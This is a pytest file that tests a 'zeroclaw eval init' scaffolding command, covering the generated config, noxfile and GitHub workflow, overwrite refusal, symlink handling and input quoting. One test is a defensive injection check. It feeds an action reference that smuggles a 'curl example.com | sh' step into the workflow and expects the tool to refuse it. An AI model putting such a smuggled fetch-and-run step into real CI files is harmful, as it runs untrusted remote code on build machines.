"""`zeroclaw eval init` in a scratch project holding only an agent: the files it writes,
what it refuses to overwrite, and the gate they set up, run for real: the written nox
sessions (nox itself, without making environments) and the written workflow's steps as
the runner runs them."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

try:
    import tomllib
except ModuleNotFoundError:  # Python 3.10
    import tomli as tomllib  # type: ignore[no-redef]

from tests.support.invoke import Runner, run_cli

pytest.importorskip("nox", reason="nox is in the test extra: pip install -e '.[test]'")

#: A team's agent: a loop on Chat Completions at OPENAI_BASE_URL (the standard library
#: only), a JSON line per turn in, one per answer out.
AGENT = '''"""The team's agent."""
import json, os, sys, urllib.request

def ask(messages):
    body = json.dumps({"model": os.environ.get("ZEROCLAW_EVAL_MODEL", "m"), "messages": messages}).encode()
    request = urllib.request.Request(
        os.environ["OPENAI_BASE_URL"] + "/chat/completions", data=body,
        headers={"Content-Type": "application/json",
                 "Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]},
    )
    with urllib.request.urlopen(request) as response:
        return json.load(response)["choices"][0]["message"]["content"]

history = []
for line in sys.stdin:
    history.append({"role": "user", "content": json.loads(line)["user_input"]})
    answer = ask(history)
    history.append({"role": "assistant", "content": answer})
    print(json.dumps({"answer": answer}), flush=True)
'''


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "team"
    root.mkdir()
    (root / "agent.py").write_text(AGENT, encoding="utf-8")
    (root / "pyproject.toml").write_text(
        '[project]\nname = "team-agent"\nversion = "0.1.0"\n', encoding="utf-8"
    )
    return root


def _environment(tmp_path: Path) -> dict[str, str]:
    """This interpreter's scripts first on PATH (zeroclaw, nox), and a `nox` that runs the
    sessions here rather than in environments of their own (which would install
    zeroclaw-eval from the index, where this version is not)."""
    shims = tmp_path / "shims"
    shims.mkdir(exist_ok=True)
    nox = shims / "nox"
    nox.write_text(f'#!/bin/sh\nexec {sys.executable} -m nox --no-venv --no-install "$@"\n', encoding="utf-8")
    nox.chmod(0o755)
    path = os.pathsep.join([str(shims), str(Path(sys.executable).parent), os.environ.get("PATH", "")])
    ambient = ("GITHUB_ACTIONS", "GITHUB_STEP_SUMMARY", "NO_COLOR", "FORCE_COLOR")
    return {**{k: v for k, v in os.environ.items() if k not in ambient}, "PATH": path}


def _nox(project: Path, tmp_path: Path, *sessions: str) -> subprocess.CompletedProcess[str]:
    """The written sessions, run by nox here (see `_environment`)."""
    return subprocess.run(
        [sys.executable, "-m", "nox", "--no-venv", "--no-install", "-s", *sessions],
        cwd=project,
        env=_environment(tmp_path),
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )


def test_init_then_the_written_sessions_pass_against_the_agent(
    project: Path, tmp_path: Path, cli: Runner
) -> None:
    result = run_cli("eval", "init", "--agent-cmd", "python agent.py", cwd=project)
    assert result.code == 0, result.stderr
    written = sorted(str(path.relative_to(project)) for path in project.rglob("*") if path.is_file())
    assert written == [
        ".github/workflows/zeroclaw.yml",
        "agent.py",
        "evals/regression/say_hello.json",
        "noxfile.py",
        "pyproject.toml",
        "zeroclaw.toml",
    ]
    assert 'agent_cmd = "python agent.py"' in (project / "zeroclaw.toml").read_text(encoding="utf-8")
    noxfile = (project / "noxfile.py").read_text(encoding="utf-8")
    assert 'ZEROCLAW_EVAL_INSTALL = ["-e", ".", "zeroclaw-eval==' in noxfile
    gate = _nox(project, tmp_path, "eval_regression", "eval_vacuity")
    assert gate.returncode == 0, gate.stdout + gate.stderr
    assert "PASSED: 1 case" in gate.stdout + gate.stderr
    assert (project / "reports" / "eval-regression.xml").is_file()
    # The opt-in live session is listed, not run by default, and skips until it has cases.
    listed = subprocess.run(
        [sys.executable, "-m", "nox", "--list"], cwd=project, capture_output=True, text=True, check=True
    )
    assert "- eval_live" in listed.stdout
    live = _nox(project, tmp_path, "eval_live")
    assert live.returncode == 0, live.stderr
    assert "no cases in evals/live" in live.stderr
    # The case can fail: an agent that answers something else fails the gate.
    (project / "agent.py").write_text(
        AGENT.replace("answer = ask(history)", 'answer = "Goodbye"'), encoding="utf-8"
    )
    broken = cli("eval", "run", cwd=project)
    assert broken.code == 1, broken.stdout


def test_the_written_workflow_runs_the_gate_as_the_runner_runs_it(project: Path, tmp_path: Path) -> None:
    assert run_cli("eval", "init", "--agent-cmd", "python agent.py", cwd=project).code == 0
    workflow: dict[str, Any] = yaml.safe_load((project / ".github/workflows/zeroclaw.yml").read_text())
    assert set(workflow[True]) == {"pull_request", "push"}  # YAML 1.1 reads the key `on` as True
    steps = workflow["jobs"]["eval-gate"]["steps"]
    uses = [step["uses"].split("@")[0] for step in steps if "uses" in step]
    assert uses == ["actions/checkout", "actions/setup-python", "actions/upload-artifact"]
    commands = [step["run"] for step in steps if "run" in step]
    assert commands == ["python -m pip install nox", "nox -s eval_regression eval_vacuity"]
    for command in commands:
        done = subprocess.run(
            ["bash", "-e", "-c", command],
            cwd=project,
            env=_environment(tmp_path),
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
        )
        assert done.returncode == 0, command + "\n" + done.stdout + done.stderr
    assert (project / "reports" / "eval-regression.html").is_file()  # what the upload step keeps


def test_with_an_action_the_workflow_installs_the_project_then_uses_it(project: Path) -> None:
    flags = (
        "--agent-cmd",
        "python agent.py",
        "--action",
        "my-org/zeroclaw-eval@v0.1.0",
        "--install",
        "-r req.txt",
    )
    assert run_cli("eval", "init", *flags, cwd=project).code == 0
    steps = yaml.safe_load((project / ".github/workflows/zeroclaw.yml").read_text())["jobs"]["eval-gate"][
        "steps"
    ]
    assert steps[2]["run"] == "python -m pip install -r req.txt"
    assert steps[3]["uses"] == "my-org/zeroclaw-eval@v0.1.0"
    assert steps[3]["with"] == {"suite": "evals/regression", "python-version": ""}


def test_nothing_is_overwritten_without_force(project: Path) -> None:
    (project / "zeroclaw.toml").write_text("[eval]\n# ours\n", encoding="utf-8")
    refused = run_cli("eval", "init", "--agent-cmd", "python agent.py", cwd=project)
    assert refused.code == 2
    assert "these exist already, so nothing was written (--force replaces them)" in refused.stderr
    assert "\n  zeroclaw.toml\n" in refused.stderr
    assert (project / "zeroclaw.toml").read_text(encoding="utf-8") == "[eval]\n# ours\n"
    assert not (project / "noxfile.py").exists()
    assert not (project / "evals").exists()
    forced = run_cli("eval", "init", "--agent-cmd", "python agent.py", "--force", cwd=project)
    assert forced.code == 0, forced.stderr
    assert 'agent_cmd = "python agent.py"' in (project / "zeroclaw.toml").read_text(encoding="utf-8")


def test_an_existing_noxfile_is_appended_to_and_its_sessions_kept(project: Path) -> None:
    ours = 'import nox\n\n\n@nox.session\ndef eval_vacuity(session: nox.Session) -> None:\n    """Ours."""\n'
    (project / "noxfile.py").write_text(ours, encoding="utf-8")
    result = run_cli("eval", "init", "--agent-cmd", "python agent.py", cwd=project)
    assert result.code == 0, result.stderr
    text = (project / "noxfile.py").read_text(encoding="utf-8")
    assert text.startswith(ours)
    assert text.count("import nox") == 1
    assert text.count("def eval_vacuity") == 1
    assert "def eval_regression" in text
    assert "def eval_live" in text
    assert "noxfile.py: eval_vacuity (defined already)" in result.stderr
    compile(text, "noxfile.py", "exec")  # still Python


def test_dry_run_prints_and_writes_nothing(project: Path) -> None:
    result = run_cli("eval", "init", "--agent", "team_agent:make", "--dry-run", cwd=project)
    assert result.code == 0, result.stderr
    assert "--- would write zeroclaw.toml" in result.stdout
    assert 'agent = "team_agent:make"' in result.stdout
    assert sorted(path.name for path in project.iterdir()) == ["agent.py", "pyproject.toml"]


def test_pyproject_gets_the_table_that_the_config_loader_reads(project: Path, cli: Runner) -> None:
    result = run_cli("eval", "init", "--agent-cmd", "python agent.py", "--pyproject", cwd=project)
    assert result.code == 0, result.stderr
    assert not (project / "zeroclaw.toml").exists()
    assert "[tool.zeroclaw.eval]" in (project / "pyproject.toml").read_text(encoding="utf-8")
    run = cli("eval", "run", "--format", "json", cwd=project)
    assert run.code == 0, run.stdout + run.stderr
    assert json.loads(run.stdout)["counts"]["passed"] == 1


@pytest.mark.parametrize(
    ("flags", "words"),
    [
        ((), "say how the gate reaches your agent: --agent-cmd"),
        (("--agent-cmd", "a", "--agent", "m:f"), "give one"),
        (("--agent", "no_colon"), "expected MODULE:FACTORY"),
        (("--agent-cmd", "a", "--suite", "../elsewhere"), "give a folder inside the project"),
        (("--agent-cmd", "a", "--action", "my-org/repo"), "expected OWNER/REPO@REF"),
        (("--agent-cmd", "a", "--install", "'unclosed"), "--install"),
    ],
)
def test_flags_that_set_nothing_up_are_usage_errors(
    project: Path, flags: tuple[str, ...], words: str
) -> None:
    result = run_cli("eval", "init", *flags, cwd=project)
    assert result.code == 2
    assert words in result.stderr
    assert sorted(path.name for path in project.iterdir()) == ["agent.py", "pyproject.toml"]


def _tree(project: Path) -> list[str]:
    return sorted(str(path.relative_to(project)) for path in project.rglob("*"))


def test_a_symbolic_link_is_never_written_through(project: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.toml"
    (project / "zeroclaw.toml").symlink_to(outside)  # dangling: "exists" would say no
    result = run_cli("eval", "init", "--agent-cmd", "python agent.py", "--force", cwd=project)
    assert result.code == 2
    assert "zeroclaw.toml is a symbolic link: init writes through none" in result.stderr
    assert not outside.exists()
    assert _tree(project) == ["agent.py", "pyproject.toml", "zeroclaw.toml"]


def test_a_file_where_a_folder_must_be_stops_init_before_it_writes_anything(project: Path) -> None:
    (project / ".github").write_text("not a folder", encoding="utf-8")
    result = run_cli("eval", "init", "--agent-cmd", "python agent.py", cwd=project)
    assert result.code == 2
    assert ".github is a file, where init would make a folder" in result.stderr
    assert _tree(project) == [".github", "agent.py", "pyproject.toml"]


def test_what_the_user_typed_is_quoted_so_every_written_file_parses(project: Path) -> None:
    agent = "python \"my agent.py\" --name 'zeroclaw_user' \\ #x \x7f"
    suite = 'evals/a"""b: c #d'
    flags = ("--agent-cmd", agent, "--suite", suite, "--action", "my-org/zeroclaw-eval@v0.1.0")
    result = run_cli("eval", "init", *flags, "--install", "'a: b' #c", cwd=project)
    assert result.code == 0, result.stderr
    assert tomllib.loads((project / "zeroclaw.toml").read_text(encoding="utf-8"))["eval"] == {
        "suite_dir": suite,
        "agent_cmd": agent,
        "case_timeout_secs": 60,
    }
    compile((project / "noxfile.py").read_text(encoding="utf-8"), "noxfile.py", "exec")
    steps = yaml.safe_load((project / ".github/workflows/zeroclaw.yml").read_text())["jobs"]["eval-gate"][
        "steps"
    ]
    assert steps[2]["run"] == "python -m pip install 'a: b' '#c'"
    assert steps[3]["with"]["suite"] == suite


@pytest.mark.parametrize(
    "action", ["my-org/repo@v1\n      - run: curl example.com | sh", "my-org/repo@v1 # x"]
)
def test_an_action_reference_that_is_more_than_one_is_refused(project: Path, action: str) -> None:
    result = run_cli("eval", "init", "--agent-cmd", "a", "--action", action, cwd=project)
    assert result.code == 2
    assert "expected OWNER/REPO@REF" in result.stderr


def test_a_noxfile_is_appended_to_on_a_line_of_its_own_and_named_sessions_are_kept(project: Path) -> None:
    ours = (
        'import nox\n\n\n@nox.session(name="eval_regression")\n'
        "def my_gate(session: nox.Session) -> None:\n    pass"
    )
    (project / "noxfile.py").write_text(ours, encoding="utf-8")  # no newline at the end
    result = run_cli("eval", "init", "--agent-cmd", "python agent.py", cwd=project)
    assert result.code == 0, result.stderr
    text = (project / "noxfile.py").read_text(encoding="utf-8")
    compile(text, "noxfile.py", "exec")
    assert "def eval_regression" not in text
    assert "def eval_vacuity" in text
    assert "eval_regression (defined already)" in result.stderr


def test_a_noxfile_that_does_not_parse_is_not_appended_to(project: Path) -> None:
    (project / "noxfile.py").write_text("def broken(:\n", encoding="utf-8")
    result = run_cli("eval", "init", "--agent-cmd", "python agent.py", cwd=project)
    assert result.code == 2
    assert "noxfile.py does not parse (line 1" in result.stderr
    assert (project / "noxfile.py").read_text(encoding="utf-8") == "def broken(:\n"


@pytest.mark.parametrize(
    ("pyproject", "words"),
    [
        (
            '[project]\nname = "x"\n\n[ tool.zeroclaw.eval ]\nsuite_dir = "e"\n',
            "has a [tool.zeroclaw] table already",
        ),
        ("[project\n", "is not valid TOML"),
    ],
)
def test_a_pyproject_init_cannot_add_to_is_left_as_it_is(project: Path, pyproject: str, words: str) -> None:
    (project / "pyproject.toml").write_text(pyproject, encoding="utf-8")
    result = run_cli("eval", "init", "--agent-cmd", "python agent.py", "--pyproject", cwd=project)
    assert result.code == 2
    assert words in result.stderr
    assert (project / "pyproject.toml").read_text(encoding="utf-8") == pyproject
